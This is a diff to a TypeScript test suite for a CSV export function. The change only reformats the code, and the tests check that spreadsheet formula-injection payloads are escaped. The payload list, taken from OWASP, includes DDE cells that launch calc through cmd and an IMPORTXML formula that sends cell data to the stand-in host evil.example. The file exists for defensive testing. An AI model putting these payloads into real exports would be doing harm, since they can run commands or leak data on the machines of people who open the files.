@@ -13,10 +13,10 @@ const OWASP_PAYLOADS = [
   "-cmd|' /C calc'!A0",
   "+1+cmd|' /C calc'!A0",
   "-2+3+cmd|' /C calc'!A0",
-  "=1+2\";=1+2",
+  '=1+2";=1+2',
   "=1+2'\" ;,=1+2",
   '=DDE("cmd";"/C calc";"!A0")A0',
-  "=IMPORTXML(CONCAT(\"http://evil.example?v=\", CONCATENATE(A2:E2)), \"//a\")",
+  '=IMPORTXML(CONCAT("http://evil.example?v=", CONCATENATE(A2:E2)), "//a")',
   "\t=1+1",
   "\r=1+1",
   "\0=1+1",
@@ -36,16 +36,16 @@ describe("the CSV cell rule (decisions.md, Exports)", () => {
   });
 
   it("writes OWASP's own examples exactly as the page recommends (apostrophe, quotes doubled, quoted)", () => {
-    expect(csvField("=1+2\";=1+2")).toBe('"\'=1+2"";=1+2"');
+    expect(csvField('=1+2";=1+2')).toBe('"\'=1+2"";=1+2"');
     expect(csvField("=1+2'\" ;,=1+2")).toBe('"\'=1+2\'"" ;,=1+2"');
     expect(csvField("=cmd|' /C calc'!A0")).toBe("'=cmd|' /C calc'!A0");
     expect(csvField("\t=1+1")).toBe("'\t=1+1");
-    expect(csvField("\r=1+1")).toBe("\"'\r=1+1\"");
+    expect(csvField("\r=1+1")).toBe('"\'\r=1+1"');
   });
 
   it("quotes a semicolon, so a spreadsheet whose separator is ; never starts a new cell (which could begin with =)", () => {
     expect(csvField(";=1+1")).toBe('";=1+1"');
-    expect(csvField("Smith;=HYPERLINK(\"x\")")).toBe('"Smith;=HYPERLINK(""x"")"');
+    expect(csvField('Smith;=HYPERLINK("x")')).toBe('"Smith;=HYPERLINK(""x"")"');
     const line = csvLine(["a", "b"], { a: "x;=1+1", b: "ok" });
     expect(outsideQuotes(line)).toBe(",ok\r\n");
   });
@@ -75,8 +75,13 @@ describe("the CSV cell rule (decisions.md, Exports)", () => {
 
   it("builds files: a header through the same rule, CRLF after every record, cells in column order", () => {
     expect(csvHeader(["id", "name"])).toBe("id,name\r\n");
-    expect(toCsv(["id", "name"] as const, [{ id: 1, name: "Ann" }, { name: "Bo, Jr", id: 2 }, { id: 3 }])).toBe('id,name\r\n1,Ann\r\n2,"Bo, Jr"\r\n3,\r\n');
-    const file = toCsv(["payload", "n"] as const, OWASP_PAYLOADS.map((payload, n) => ({ payload, n })));
+    expect(toCsv(["id", "name"] as const, [{ id: 1, name: "Ann" }, { name: "Bo, Jr", id: 2 }, { id: 3 }])).toBe(
+      'id,name\r\n1,Ann\r\n2,"Bo, Jr"\r\n3,\r\n',
+    );
+    const file = toCsv(
+      ["payload", "n"] as const,
+      OWASP_PAYLOADS.map((payload, n) => ({ payload, n })),
+    );
     expect(parseCsv(file).slice(1)).toEqual(OWASP_PAYLOADS.map((payload, n) => [`'${payload}`, String(n)]));
   });
 });
